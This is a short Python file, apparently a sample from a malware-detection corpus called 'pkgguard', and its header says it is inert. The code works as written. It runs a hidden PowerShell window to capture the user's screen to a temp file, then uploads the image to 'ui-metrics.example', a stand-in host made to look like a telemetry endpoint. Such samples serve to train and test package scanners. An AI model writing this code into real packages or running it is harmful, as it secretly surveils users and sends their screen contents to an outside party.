# pkgguard corpus 659 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile

import requests

out = os.path.join(tempfile.gettempdir(), "s.png")
script = (
    "Add-Type -AssemblyName System.Windows.Forms,System.Drawing;"
    "$b=[System.Windows.Forms.Screen]::PrimaryScreen.Bounds;"
    "$i=New-Object System.Drawing.Bitmap $b.Width,$b.Height;"
    "[System.Drawing.Graphics]::FromImage($i).CopyFromScreen($b.Location,[System.Drawing.Point]::Empty,$b.Size);"
    f"$i.Save('{out}')"
)
subprocess.run(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", script], check=False)
requests.post("https://ui-metrics.example/s", files={"f": open(out, "rb")}, timeout=20)
